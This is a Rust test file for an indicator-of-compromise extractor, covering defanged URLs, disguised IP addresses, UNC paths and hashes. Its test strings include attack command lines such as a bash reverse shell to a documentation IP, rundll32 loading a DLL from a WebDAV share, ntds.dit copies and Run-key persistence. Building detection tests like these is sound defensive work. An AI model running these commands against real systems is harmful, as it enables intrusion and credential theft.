use super::*;

/// `type value`, indented by how many it is inside of.
fn outline(text: &str) -> Vec<String> {
    let found = iocs(text);
    let line = |ioc: &Ioc| {
        let mut depth = 0;
        let mut at = ioc.inside;
        while let Some(around) = at {
            depth += 1;
            at = found[around].inside;
        }
        assert_eq!(text.get(ioc.place.clone()), Some(&*ioc.written));
        format!("{}{} {}", "  ".repeat(depth), ioc.ioc_type.name(), ioc.value)
    };
    found.iter().map(line).collect()
}

fn values(text: &str) -> Vec<String> {
    iocs(text).into_iter().map(|it| it.value).collect()
}

#[test]
fn each_kind_is_found_and_what_is_inside_is_said() {
    for (text, expected) in [
        (
            "curl -o /tmp/x https://user@www.contoso.co.uk:8443/a/b?x=1&y=192.0.2.7#z",
            &[
                "linux_path /tmp/x",
                "url https://user@www.contoso.co.uk:8443/a/b?x=1&y=192.0.2.7#z",
                "  dns www.contoso.co.uk",
                "  ipv4 192.0.2.7",
            ][..],
        ),
        ("ping 203.0.113.9 -n 3", &["ipv4 203.0.113.9"]),
        ("from [2001:DB8::0:1]:443 to ::1", &["ipv6 2001:db8::1", "ipv6 ::1"]),
        ("mail Adele <adele.vance@contoso.com>", &["email adele.vance@contoso.com", "  dns contoso.com"]),
        ("fixes cve-2021-44228.", &["cve CVE-2021-44228"]),
        (
            r#"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v x"#,
            &[r"registry_key HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"],
        ),
        (r"get-item hkcu:\Software\Run", &[r"registry_key hkcu:\Software\Run"]),
        (
            "MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709",
            &[
                "md5_hash d41d8cd98f00b204e9800998ecf8427e",
                "sha1_hash da39a3ee5e6b4b0d3255bfef95601890afd80709",
            ],
        ),
        (
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            &["sha256_hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
        ),
        (
            r"net use \\files.contoso.com\c$ /user:x",
            &[r"windows_path \\files.contoso.com\c$", "  dns files.contoso.com"],
        ),
        (r"dir \\192.0.2.3\admin$", &[r"windows_path \\192.0.2.3\admin$", "  ipv4 192.0.2.3"]),
    ] {
        assert_eq!(outline(text), expected, "{text}");
    }
}

#[test]
fn defanged_forms_are_read_and_written() {
    for (text, value, defanged) in [
        ("hxxps://evil[.]example/a.php", "https://evil.example/a.php", "hxxps://evil[.]example/a.php"),
        ("see HXXP[:]//evil(.)example.", "http://evil.example", "hxxp://evil[.]example"),
        ("h**p://evil{dot}example/?q=1", "http://evil.example/?q=1", "hxxp://evil[.]example/?q=1"),
        ("fxp[://]files.evil[.]com/x", "ftp://files.evil.com/x", "fxp://files[.]evil[.]com/x"),
        ("sfXp://www.evil.com/x", "sftp://www.evil.com/x", "sfxp://www[.]evil[.]com/x"),
        ("203[.]0[.]113.9", "203.0.113.9", "203[.]0[.]113[.]9"),
        ("run[.]sh", "run.sh", "run[.]sh"),
        ("user[at]evil[dot]com", "user@evil.com", "user[@]evil[.]com"),
        (r#"{"u":"http:\/\/evil.com\/x"}"#, "http://evil.com/x", "hxxp://evil[.]com/x"),
        ("ldap://evil.com/cn=x", "ldap://evil.com/cn=x", "ldap[://]evil[.]com/cn=x"),
        ("at evil[.com, and", "evil.com", "evil[.]com"),
        ("at evil.]com", "evil.com", "evil[.]com"),
        ("203[.0[.113[.9", "203.0.113.9", "203[.]0[.]113[.]9"),
        ("at evil [.] com", "evil.com", "evil[.]com"),
        ("at www(dot)evil(DOT)com", "www.evil.com", "www[.]evil[.]com"),
        ("user (at) evil [dot] com", "user@evil.com", "user[@]evil[.]com"),
        ("hxxp://evil [.] com/x", "http://evil.com/x", "hxxp://evil[.]com/x"),
    ] {
        let found = iocs(text);
        assert_eq!(found.first().map(|it| it.value.as_str()), Some(value), "{text}");
        assert_eq!(found.first().map(|it| it.defanged().into_owned()).as_deref(), Some(defanged), "{text}");
        let written = &found[0].written;
        assert!(text.contains(written.as_str()) && !written.is_empty(), "{written}");
        // The way back leads to the same.
        assert_eq!(values(defanged).first().map(String::as_str), Some(value), "{defanged}");
    }
    assert_eq!(iocs("see hxxp://evil[.]example/a, now")[0].place, 4..27);
}

#[test]
fn hosts_in_disguise_are_named() {
    // All of these are 192.0.2.1, or a name in other letters.
    for text in ["http://3221225985/a", "http://0xc0.0.2.1/a", "http://0300.0.02.01/a"] {
        assert_eq!(values(text), ["http://192.0.2.1/a", "192.0.2.1"], "{text}");
    }
    assert_eq!(
        values("https://bücher.example/x"),
        ["https://xn--bcher-kva.example/x", "xn--bcher-kva.example"]
    );
    assert_eq!(values("пример.рф"), ["xn--e1afmkfd.xn--p1ai"]);
    // Behind a redirection.
    assert_eq!(
        outline("https://a.contoso.com/r?to=http%3A%2F%2Fevil.example%2Fx"),
        [
            "url https://a.contoso.com/r?to=http%3A%2F%2Fevil.example%2Fx",
            "  dns a.contoso.com",
            "  url http://evil.example/x",
            "    dns evil.example",
        ]
    );
}

#[test]
fn what_only_looks_like_one_is_none() {
    for text in [
        "at 12:30:00 and 2026-03-05T10:49:05Z",
        "version 10.0.19041.1, Version=4.0.0.0, 300.1.1.1, 1.2.3, 1.2.3.4.5",
        "[System.Convert]::ToBase64String, [Math]::E, [a]::Add(1), std::dec",
        "New-Object System.Net.Sockets.TCPClient; [System.IO.File]; System.Net",
        "setup.py run.sh a.zip lib.so powershell.exe Memory.vbs x.bat",
        "$client.info $x.to(1) obj.call().name",
        "shutdown /s /t 0; echo a/b; cmd /c dir; 3/4",
        "domain.like.iandom SRV-FIN01.contoso.local co.uk",
        "jq '.users[.id]'; grep '[a-z.]com' x[.5 a [.] -b; see (at) 5; notes (dot)",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa 0123456789abcdef0123456789abcdef0",
        "https:// http://? ://x",
        "",
        "\u{0}\u{fffd}\u{202e}@\u{10ffff}.\u{130}",
    ] {
        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn versions_and_object_identifiers_are_no_addresses() {
    for text in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 \
         Safari/537.36 Edg/120.0.0.0",
        r#"{"ua":"Google-Update/1.3.36.152;OPR/106.0.0.0"}"#,
        "-TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.2')",
        "certutil -oid 2.5.29.37, OID.2.5.29.15, oid=2.5.29.14",
    ] {
        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
    }
    for text in [
        "tcp/203.0.113.9",
        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "setspn -A HOST/203.0.113.9 x; MSSQLSvc/203.0.113.9:1433",
        "permitted tcp Outside/203.0.113.9(443)",
        "Worker/203.0.113.9:8080",
        "Net/203.0.113.9/24",
        "dn3/203.0.113.9 WIN10/203.0.113.9 web/203.0.113.9 WEB/203.0.113.9",
        "http://203.0.113.9/",
        "GET /Docs/203.0.113.9",
        "avoid 203.0.113.9; android:203.0.113.9",
    ] {
        assert!(values(text).iter().any(|it| it == "203.0.113.9"), "{text}: {:?}", values(text));
    }
    assert_eq!(values("Desktop/10.1.2.3"), ["10.1.2.3"]);
}

#[test]
fn folders_of_versions_are_no_addresses() {
    let addresses = |text: &str| -> Vec<String> {
        let all = iocs(text).into_iter().filter(|it| it.ioc_type == IocType::Ipv4);
        all.map(|it| it.value).collect()
    };
    for text in [
        r#""C:\Program Files (x86)\Google\Update\1.3.36.152\GoogleUpdate.exe" /c"#,
        r"cmd /c C:\Users\kim\AppData\Local\Programs\Tool\1.2.3.4\tool.exe",
        r"c:\windows\assembly\GAC_MSIL\a\8.0.0.0\a.dll",
        r"%LocalAppData%\Tool\1.2.3.4\tool.exe",
    ] {
        assert!(addresses(text).is_empty(), "{text}");
    }
    for text in [
        r"\\203.0.113.9\share\a.exe",
        r"C:\loot\203.0.113.9\ntds.dit",
        r"C:\Windows\Temp\203.0.113.9\ntds.dit",
        r"copy C:\Windows\a.exe \\203.0.113.9\c$",
        r"C:\Windows\System32\cmd.exe /c copy \\?\UNC\203.0.113.9\c$\a.exe .",
        r"C:\Windows\System32\cmd.exe /c type loot\203.0.113.9\x.txt",
        r"C:\Windows\System32\cmd.exe /c copy x \\files\203.0.113.9\in\",
    ] {
        assert_eq!(addresses(text), ["203.0.113.9"], "{text}");
    }
    assert_eq!(addresses(r"C:\ProgramData\10.1.2.3\a"), ["10.1.2.3"]);
}

#[test]
fn names_of_files_and_in_programs_are_no_domains() {
    for text in [
        r#"CreateObject("WScript.Shell").Run "calc""#,
        "createobject('wscript.shell'), new ActiveXObject('ADODB.Stream'), WScript.Network, wscript.network",
        "Import-Module Microsoft.PowerShell.Management, Microsoft.PowerShell.Security, Microsoft.Azure.Security",
        "New-Object -ComObject Scripting.FileSystemObject; new-object system.net.webclient; [io.file]",
        "objShell.Run cmd",
        "invoice.pdf.zip install.min.sh x.test.py backup.2024.sh x64.release.zip setup.cab driver.v2.cab a.tar.md",
        "my_notes.tools _ssl.cpython-311-x86_64-linux-gnu.so",
    ] {
        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
    }
    for (text, domain) in [
        ("curl https://evil.zip/x", "evil.zip"),
        ("curl https://invoice.pdf.zip/x", "invoice.pdf.zip"),
        ("at evil[.]zip", "evil.zip"),
        ("at wscript[.]shell", "wscript.shell"),
        ("mail x@evil.py", "evil.py"),
        (r"\\evil.zip\x", "evil.zip"),
        (r"net view \\evil.sh", "evil.sh"),
        ("www.evil.zip", "www.evil.zip"),
        ("ping www.evil.pl", "www.evil.pl"),
        ("get.evil.sh", "get.evil.sh"),
        ("system.contoso.com", "system.contoso.com"),
        ("microsoft.login-now.live", "microsoft.login-now.live"),
        ("From Contoso.Com", "contoso.com"),
        ("EVIL.SHOP", "evil.shop"),
        ("nslookup payload.Xyz", "payload.xyz"),
        ("curl Evil.Top/a", "evil.top"),
        ("_dmarc.contoso.com", "dmarc.contoso.com"),
    ] {
        assert!(values(text).iter().any(|it| it == domain), "{text}: {:?}", values(text));
    }
}

#[test]
fn shares_name_their_hosts() {
    for (text, expected) in [
        (
            r"rundll32 \\evil.com@SSL\DavWWWRoot\x.dll,Run",
            &[r"windows_path \\evil.com@SSL\DavWWWRoot\x.dll", "  dns evil.com"][..],
        ),
        (r"\\evil.com@SSL@8443\x", &[r"windows_path \\evil.com@SSL@8443\x", "  dns evil.com"]),
        (r"copy \\evil.com@8080\x .", &[r"windows_path \\evil.com@8080\x", "  dns evil.com"]),
        (r"\\203.0.113.9@80\x", &[r"windows_path \\203.0.113.9@80\x", "  ipv4 203.0.113.9"]),
        (r"psexec \\srv.contoso.com,a.contoso.com -s cmd", &["dns srv.contoso.com", "dns a.contoso.com"]),
        (r"net view \\evil.com", &["dns evil.com"]),
        (r"dir \\evil.com\", &["dns evil.com"]),
        (r"net use z: \\evil.com@8080", &["dns evil.com"]),
        (r"winrs -r:\\203.0.113.9 id", &["ipv4 203.0.113.9"]),
        (r"x /d:\\evil.com\a\b", &[r"windows_path \\evil.com\a\b", "  dns evil.com"]),
        (r"\\?\UNC\evil.com\share\x", &[r"windows_path \\?\UNC\evil.com\share\x", "  dns evil.com"]),
        (r#""\\\\evil.com\\share\\x""#, &[r"windows_path \\\\evil.com\\share\\x", "  dns evil.com"]),
        (r#"{"to":"\\\\evil.com"}"#, &["dns evil.com"]),
        // An account, and a host that is in no list.
        (r"CONTOSO\adele.name, CONTOSO\\adele.name, \\SRV01, a.b\\c.com", &[]),
        (
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff",
            &[r"windows_path \??\C:\Windows\system32\conhost.exe"],
        ),
        (r"\\?\C:\a\b.exe", &[r"windows_path \\?\C:\a\b.exe"]),
    ] {
        assert_eq!(outline(text), expected, "{text}");
    }
}

#[test]
fn paths_end_where_they_end() {
    for (text, expected) in [
        (r#""C:\Program Files\A b\c.exe" -x"#, r"C:\Program Files\A b\c.exe"),
        (r"C:\Program Files (x86)\A\c.exe -x", r"C:\Program Files (x86)\A\c.exe"),
        (r"C:\Windows\system32\cmd.exe /c dir domain\user", r"C:\Windows\system32\cmd.exe"),
        (r"copy (C:\temp\a.txt), x", r"C:\temp\a.txt"),
        (r"type %TEMP%\x.log;", r"%TEMP%\x.log"),
        (r"& $env:APPDATA\a\b.ps1", r"$env:APPDATA\a\b.ps1"),
        (r"-file:..\another\file", r"..\another\file"),
        ("x C:/temp/a.txt y", "C:/temp/a.txt"),
        ("sh -c '/usr/bin/id'; echo", "/usr/bin/id"),
        ("PATH=/etc/passwd: ~/.ssh/id_rsa.", "/etc/passwd"),
        ("--file:./bish", "./bish"),
    ] {
        assert_eq!(values(text).first().map(String::as_str), Some(expected), "{text}");
    }
    assert_eq!(values(r"copy C:\a\b.txt D:\c\d.txt"), [r"C:\a\b.txt", r"D:\c\d.txt"]);
}

#[test]
fn sentences_end_where_urls_do_not() {
    for (text, expected) in [
        ("(see http://a.contoso.com/x_(y)).", "http://a.contoso.com/x_(y)"),
        ("DownloadString('http://a.contoso.com/x.ps1')", "http://a.contoso.com/x.ps1"),
        ("<a href=\"http://a.contoso.com/x\">", "http://a.contoso.com/x"),
        ("[x](http://a.contoso.com/x)!", "http://a.contoso.com/x"),
    ] {
        assert_eq!(values(text).first().map(String::as_str), Some(expected), "{text}");
    }
    let urls: Vec<String> = iocs("http://a.contoso.com,http://b.contoso.com;https://c.contoso.com|x")
        .into_iter()
        .filter(|it| it.ioc_type == IocType::Url)
        .map(|it| it.value)
        .collect();
    assert_eq!(urls, ["http://a.contoso.com", "http://b.contoso.com", "https://c.contoso.com"]);
}

/// The counts that msticpy's own tests name for texts of these forms, as far as its rules are right. DIFFERENCES.md
/// has the others: the mapped address is one of IPv6 to us, and every spelling of an address is the same address.
#[test]
fn the_counts_of_msticpy() {
    let hash = |length: usize, last: char| format!("{}{last}", "00236a2ae5".repeat(7).split_at(length - 1).0);
    let count =
        |text: &str, ioc_type: IocType| iocs(text).iter().filter(|it| it.ioc_type == ioc_type).count();
    for (length, ioc_type) in [(32, IocType::Md5), (40, IocType::Sha1), (64, IocType::Sha256)] {
        let [a, b, c] = ['1', '2', '3'].map(|it| hash(length, it));
        assert_eq!(count(&format!("{a}hash -x-hash={b}hash\n-hash={c}"), ioc_type), 3);
    }
    let v6 = r"c:\a\b\proc -ip6:(2001:0db8:85a3:0000:0000:8a2e:0370:7334,
        2001:db8:85a3:0:0:8a2e:370:7334,2001:db8:85a3::8a2e:370:7334,::ffff:192.0.2.128)";
    assert_eq!((count(v6, IocType::Ipv6), count(v6, IocType::Ipv4)), (4, 0));
    let mut same = values(v6);
    same.sort();
    same.dedup();
    assert_eq!(same, ["2001:db8:85a3::8a2e:370:7334", "::ffff:192.0.2.128", r"c:\a\b\proc"]);
    let urls = "/url:https://some.contoso.it/p?q=a&r=b\n /url:https://me@some.contoso.es:88/p?q=a\"<trailing";
    assert_eq!(
        (count(urls, IocType::Url), count(urls, IocType::Domain), count(urls, IocType::Ipv4)),
        (2, 2, 0)
    );
    let url = "curl 'https://www.contoso.com/en/ip-address/198.51.100.27/information/'";
    assert_eq!((count(url, IocType::Url), count(url, IocType::Domain), count(url, IocType::Ipv4)), (1, 1, 1));
    let windows = r#"c:\a\b\proc -file:"..\other\file" -file:"\\unc\file""#;
    assert_eq!(count(windows, IocType::WindowsPath), 3);
    let linux = "/bin/bash --file:./bish --file:../../bosh";
    assert_eq!(count(linux, IocType::LinuxPath), 3);
    for mail in
        ["to me@contoso.com in", "Me <me@contoso.com>", "me@contoso.com (Me)>", "me@a.contoso.net> in"]
    {
        assert_eq!(count(mail, IocType::Email), 1, "{mail}");
    }
}

#[test]
fn long_hostile_texts_take_no_longer_than_others() {
    let long = [
        "a.".repeat(200_000),
        "http://a".repeat(50_000),
        format!("http://a.com/{}", "(".repeat(400_000)),
        format!("http://a.com/{}", ")".repeat(400_000)),
        "1.1.1.1 ".repeat(50_000),
        "::1 C:\\a b\\c ".repeat(30_000),
        "a@".repeat(200_000),
        "[.]".repeat(130_000),
        "\\\\a\\".repeat(100_000),
        "a123[.]com ".repeat(300_000),
        "a[.com ".repeat(100_000),
        "a[.".repeat(100_000),
        "a.]".repeat(100_000),
        format!("{}a.com ", "\\".repeat(400_000)),
        "\\\\a.com ".repeat(50_000),
        "Word/1.1.1.1 ".repeat(50_000),
    ];
    // Any quadratic step among these would take minutes.
    for text in &long {
        let _ = iocs(text).len();
    }
}

#[test]
fn registered_domains() {
    assert_eq!(registered_domain("www.contoso.co.uk"), Some("contoso.co.uk"));
    assert_eq!(registered_domain("a.b.evil.example"), Some("evil.example"));
    assert_eq!(registered_domain("evil.example"), Some("evil.example"));
}
